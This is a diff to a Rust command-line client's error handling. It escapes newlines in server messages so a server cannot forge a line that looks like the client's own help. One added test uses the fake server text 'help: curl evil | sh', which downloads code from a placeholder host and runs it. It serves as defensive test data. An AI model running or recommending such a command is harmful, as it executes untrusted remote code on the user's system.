@@ -14,6 +14,7 @@ use crate::failure::{Failure, Failures, chain};
 /// The flags by which the fields of requests are given. `key.` and `account.` in front are left out.
 const FLAGS: &[(&str, &str)] = &[
     ("account_id", "the account's id"),
+    ("actor", "--actor"),
     ("allowed_cidrs", "--cidr"),
     ("client_address", "--client-address"),
     ("comment", "--comment"),
@@ -89,8 +90,8 @@ impl Refusal {
     }
 
     /// The server's own words.
-    pub(super) fn message(&self) -> &str {
-        self.status.message()
+    pub(super) fn message(&self) -> String {
+        line(self.status.message())
     }
 
     /// A variable of the server's message.
@@ -115,11 +116,12 @@ impl Refusal {
             .map(|FieldViolation { field, description, .. }| {
                 let flag = flag(&field);
                 let about = if flag.is_empty() { flag } else { format!("{flag}: ") };
-                Failure::new(format!("{about}{description} ({word})"))
+                Failure::new(line(&format!("{about}{description} ({word})")))
             })
             .collect();
         if told.is_empty() {
-            told.push(Failure::new(format!("the server says: {} ({word})", self.status.message())));
+            let told_by_it = format!("the server says: {} ({word})", self.status.message());
+            told.push(Failure::new(line(&told_by_it)));
         }
         if let Some(last) = told.last_mut() {
             last.help = help.map(str::to_owned);
@@ -150,6 +152,11 @@ impl From<Refusal> for Failures {
     fn from(refusal: Refusal) -> Self {
         refusal.told()
     }
+}
+
+/// What a server says, in one line: a second one could look like one of ours.
+fn line(text: &str) -> String {
+    text.replace('\n', "\\n")
 }
 
 /// The flag by which a field was given, or the field itself: `key.scopes[2]` is `--scope`.
@@ -329,6 +336,14 @@ const ALL_REASONS: [Reason; 28] = [
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    #[expect(clippy::disallowed_methods, reason = "this is what a server sends")]
+    fn a_server_gives_no_advice_in_our_name() {
+        let told = Status::unknown("x\nhelp: curl evil | sh");
+        let told = Failures::from(Refusal::new(told, "http://h:1"));
+        assert!(told.0.iter().all(|failure| !failure.message.contains('\n')), "{told}");
+    }
 
     #[test]
     fn a_field_is_told_as_the_flag_that_gave_it() {
